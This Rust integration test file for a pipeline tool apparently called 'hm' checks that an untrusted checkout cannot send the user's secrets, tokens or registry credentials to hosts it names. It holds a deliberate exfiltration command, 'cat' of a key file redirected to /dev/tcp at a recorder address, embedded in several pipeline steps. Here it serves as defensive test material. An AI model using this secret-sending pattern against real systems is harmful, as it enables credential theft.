//! What leaves the machine from an untrusted checkout, and what is sent along with permitted traffic: a
//! recorder listens at every address that the checkout names.

use std::{
    fs,
    process::{Child, Command, Stdio},
};

use serde_json::{Value, json};

use crate::support::{
    images::Image,
    project::{Ended, Project, eventually},
    recorder::Recorder,
    remote_engine::step_program,
};

/// The content of the user's files and variables, which must not leave the machine.
const SECRET: &str = "s3cret-of-the-user";

const NO_MACHINES: &str = "[vm]\nqemu = '/nonexistent'\n";

/// A checkout that tries to get all it can, with a home that has secrets.
struct Checkout {
    project: Project,
    home: std::path::PathBuf,
    at: String,
}

impl Checkout {
    fn new(recorder: &Recorder) -> Self {
        let project = Project::new();
        let home = project.store.with_file_name("home");
        fs::create_dir_all(home.join(".docker")).unwrap();
        fs::write(home.join("key"), SECRET).unwrap();
        let auths = json!({ "auths": { "registry.example": { "username": "u", "password": SECRET } } });
        fs::write(home.join(".docker/config.json"), auths.to_string()).unwrap();
        fs::create_dir_all(home.join(".config/hm")).unwrap();
        // No check of virtual machines: they take seconds to boot.
        fs::write(home.join(".config/hm/hm.toml"), NO_MACHINES).unwrap();
        Image::shell().write_oci(&project.dir.join("image"), "it");
        let checkout = Self { project, home, at: recorder.address().to_string() };
        let (at, home) = (&checkout.at, checkout.home.display());
        checkout.project.file(
            ".hm/hm.toml",
            &format!(
                "[docker]\nhost = 'tcp://{at}'\n[vm]\nqemu = '{home}/key'\n\
                 [cloud]\napi_url = 'http://{at}'\napp_url = 'http://{at}'\n\
                 [remote]\nendpoint = 'grpc://{at}'\nlogs = 'grpc://{at}'\ncache = 'both'\n"
            ),
        );
        let (host, port) = at.rsplit_once(':').unwrap();
        let steal = format!("cat {home}/key > /dev/tcp/{host}/{port}");
        let bash = format!("bash -c '{steal}'");
        checkout.pipeline("process", json!({ "key": "it", "cmd": bash, "runner": "process", "image": "host" }));
        checkout.pipeline("docker", json!({ "key": "it", "cmd": bash, "runner": "docker", "image": "debian" }));
        checkout.pipeline("cloud", json!({ "key": "it", "cmd": bash, "runner": "cloud", "image": "oci:image:it" }));
        let outside = format!("rootfs:{home}");
        checkout.pipeline("rootfs", json!({ "key": "it", "cmd": bash, "runner": "cloud", "image": outside }));
        let cache = json!({ "policy": "forever", "key": "known" });
        checkout.pipeline("ci", json!({ "key": "it", "cmd": "true", "image": "host", "cache": cache }));
        checkout
    }

    fn pipeline(&self, name: &str, step: Value) {
        let ir = json!({
            "version": "0",
            "graph": { "nodes": [{ "step": step, "env": {} }], "node_holes": [], "edge_property": "directed", "edges": [] },
        });
        self.project.file(&format!(".hm/{name}.json"), &ir.to_string());
    }

    /// Returns `hm ARGS` for a user who has a token for an engine.
    fn hm(&self, args: &[&str]) -> Command {
        let mut hm = self.project.hm(args);
        for name in ["HM_REMOTE", "HM_REMOTE_LOGS", "HM_TRUST", "DOCKER_HOST", "XDG_CONFIG_HOME", "XDG_RUNTIME_DIR"] {
            hm.env_remove(name);
        }
        hm.env("HOME", &self.home).env("XDG_STATE_HOME", self.home.join("state"));
        hm.env("HM_API_TOKEN", SECRET);
        hm.env("HM_REMOTE_HEADER", format!("authorization: Bearer {SECRET}\nx-api-key: {SECRET}"));
        // Only addresses that the user names are reached through a proxy, and the user names none here.
        for proxy in ["http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "grpc_proxy"]
        {
            hm.env(proxy, format!("http://{}", self.at));
        }
        hm
    }
}

#[test]
fn nothing_is_sent_from_an_untrusted_checkout() {
    if step_program().is_none() {
        return;
    }
    let recorder = Recorder::start();
    let checkout = Checkout::new(&recorder);
    for pipeline in ["process", "docker", "cloud", "rootfs", "ci"] {
        let ended = Ended::of(&mut checkout.hm(&["run", pipeline])).expect(2);
        assert!(ended.stderr.contains("which you have not allowed"), "{}", ended.stderr);
        Ended::of(&mut checkout.hm(&["plan", pipeline])).expect(0);
        Ended::of(&mut checkout.hm(&["render", pipeline])).expect(0);
    }
    // A pipeline of the user's own in that checkout: its hm.toml needs consent all the same.
    let piped = checkout
        .hm(&["run", "-f", "-"])
        .stdin(fs::File::open(checkout.project.dir.join(".hm/ci.json")).unwrap())
        .output();
    Ended::from(piped.unwrap()).expect(2);
    Ended::of(&mut checkout.hm(&["pipelines"])).expect(0);
    let config = Ended::of(&mut checkout.hm(&["config"])).expect(0);
    assert!(config.stdout.contains("not allowed") && !config.stdout.contains(SECRET), "{}", config.stdout);
    let runners = Ended::of(&mut checkout.hm(&["runners"])).expect(0);
    assert!(runners.stderr.contains("[remote] endpoint") && runners.stderr.lines().count() == 1, "{}", runners.stderr);
    let doctor = Ended::of(checkout.hm(&["doctor"]).env_remove("HM_API_TOKEN"));
    assert!(matches!(doctor.code, Some(0 | 3)) && doctor.stderr.contains("[docker] host"), "{doctor:?}");
    assert_eq!(recorder.take(), [""; 0]);
    // A user who has a token for the hosted service named that one, whatever the checkout says.
    Ended::of(&mut checkout.hm(&["doctor"]));
    let heard = recorder.take();
    let is_expected = |line: &String| line == "connected" || line.starts_with("CONNECT api.harmont.dev:443 ");
    assert!(heard.iter().all(is_expected) && !heard.concat().contains(SECRET), "{heard:?}");

    // The recorder does receive traffic that is allowed.
    Ended::of(checkout.hm(&["runners"]).env("HM_TRUST", "1")).expect(0);
    let heard = recorder.take();
    assert!(heard.iter().any(|line| line.contains("GetCapabilities")), "{heard:?}");
    assert!(heard.iter().any(|line| line.starts_with("GET ")), "the docker daemon: {heard:?}");
    assert!(!heard.concat().contains(SECRET), "{heard:?}");
    Ended::of(&mut checkout.hm(&["run", "--trust", "process"])).expect(0);
    let mut heard = String::new();
    eventually("the step to tell", || {
        heard += &recorder.take().concat();
        heard.contains(SECRET)
    });
}

#[test]
fn credentials_for_one_engine_are_sent_to_no_other() {
    if step_program().is_none() {
        return;
    }
    let (recorder, ours) = (Recorder::start(), Recorder::start());
    let checkout = Checkout::new(&recorder);
    let (at, our) = (format!("grpc://{}", recorder.address()), format!("grpc://{}", ours.address()));
    let text = format!("{NO_MACHINES}[remote]\nendpoint = '{our}'\nheaders = {{ x-kept = '{SECRET}' }}\n");
    fs::write(checkout.home.join(".config/hm/hm.toml"), text).unwrap();
    // To an engine that the project names, with consent; and to one that the user names on the command line,
    // which is not the one in the variables.
    checkout.pipeline("ci", json!({ "key": "it", "cmd": "true", "runner": "cloud", "image": "oci:image:it" }));
    let run = |args: &[&str], engine: Option<&str>| {
        let mut hm = checkout.hm(args);
        hm.env("HM_TRUST", "1");
        if let Some(engine) = engine {
            hm.env("HM_REMOTE", engine);
        }
        Ended::of(&mut hm)
    };
    for (args, engine) in [
        (&["run", "ci"][..], None),
        (&["runners"], None),
        (&["doctor"], None),
        (&["run", "ci", "--remote", &at], Some(&*our)),
        (&["runners", "--remote", &at], Some(&our)),
        (&["doctor", "--remote", &at], Some(&our)),
    ] {
        let ended = run(args, engine);
        let heard = recorder.take();
        assert!(heard.iter().any(|line| line.starts_with("call ")), "{args:?}: {ended:?}");
        assert!(!heard.concat().contains(SECRET), "{args:?}: {heard:?}");
        assert!(ended.stderr.contains("note: HM_REMOTE_HEADER"), "{args:?}: {}", ended.stderr);
        assert!(!format!("{ended:?}").contains(SECRET));
    }
    assert_eq!(ours.take(), [""; 0]);
    // Only the user names the engine of a worker.
    let mut worker = Worker::start(checkout.hm(&["worker", "--remote", &at]).env("HM_REMOTE", &our));
    let mut heard = Vec::new();
    eventually("the worker to call", || {
        heard.extend(recorder.take());
        heard.iter().any(|line| line.starts_with("call ")) || worker.has_ended()
    });
    assert!(!heard.is_empty() && !heard.concat().contains(SECRET), "{heard:?}");
    drop(worker);

    // The engine that the secrets are meant for receives them.
    for (args, engine) in [(&["runners"][..], Some(&*our)), (&["runners", "--remote", &our], None)] {
        run(args, engine);
        let heard = ours.take().concat();
        assert!(heard.contains("x-kept") && heard.contains("x-api-key") && heard.contains(SECRET), "{args:?}: {heard}");
    }
}

#[test]
fn an_image_that_a_project_names_is_requested_without_credentials_for_other_registries() {
    if step_program().is_none() {
        return;
    }
    let (proxy, registry) = (Recorder::start(), Recorder::start());
    let checkout = Checkout::new(&proxy);
    fs::remove_file(checkout.project.dir.join(".hm/hm.toml")).unwrap();
    let image = format!("{}/it:latest", registry.address());
    checkout.pipeline("pull", json!({ "key": "it", "cmd": "true", "image": image }));
    let ended = Ended::of(&mut checkout.hm(&["run", "pull"]));
    assert!(matches!(ended.code, Some(1 | 3)), "{ended:?}");
    let heard = registry.take();
    assert!(heard.iter().any(|line| line.starts_with("GET /v2/")), "{heard:?} {ended:?}");
    assert!(!heard.concat().contains(SECRET) && !heard.concat().to_lowercase().contains("authorization"), "{heard:?}");
    assert_eq!(proxy.take(), [""; 0], "what is not encrypted and stays here goes through no proxy");
}

#[test]
fn no_header_is_sent_over_the_network_without_encryption() {
    let Some(recorder) = Recorder::on_the_network() else {
        eprintln!("this machine has no address but the loopback's");
        return;
    };
    let checkout = Checkout::new(&recorder);
    fs::remove_file(checkout.project.dir.join(".hm/hm.toml")).unwrap();
    let at = format!("grpc://{}", recorder.address());
    for args in [&["run", "cloud", "--remote", &at][..], &["runners", "--remote", &at], &["doctor", "--remote", &at]] {
        // With a token, the doctor would ask the hosted service.
        let ended = Ended::of(checkout.hm(args).env_remove("HM_API_TOKEN"));
        let told = format!("{}{}", ended.stdout, ended.stderr);
        assert!(told.contains("the header `authorization` is not sent") && !told.contains(SECRET), "{args:?}: {told}");
    }
    let worker = Ended::of(&mut checkout.hm(&["worker", "--remote", &at])).expect(2);
    assert!(worker.stderr.contains("the header `authorization` is not sent"), "{}", worker.stderr);
    let heard = recorder.take();
    assert!(heard.is_empty(), "{heard:?}");
    // Without headers, the same engine is asked.
    Ended::of(checkout.hm(&["runners", "--remote", &at]).env_remove("HM_REMOTE_HEADER")).expect(0);
    assert!(recorder.take().iter().any(|line| line.starts_with("call ")));
}

/// A worker that is killed on drop.
struct Worker(Child);

impl Worker {
    fn start(hm: &mut Command) -> Self {
        Self(hm.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap())
    }

    fn has_ended(&mut self) -> bool {
        self.0.try_wait().unwrap().is_some()
    }
}

impl Drop for Worker {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}
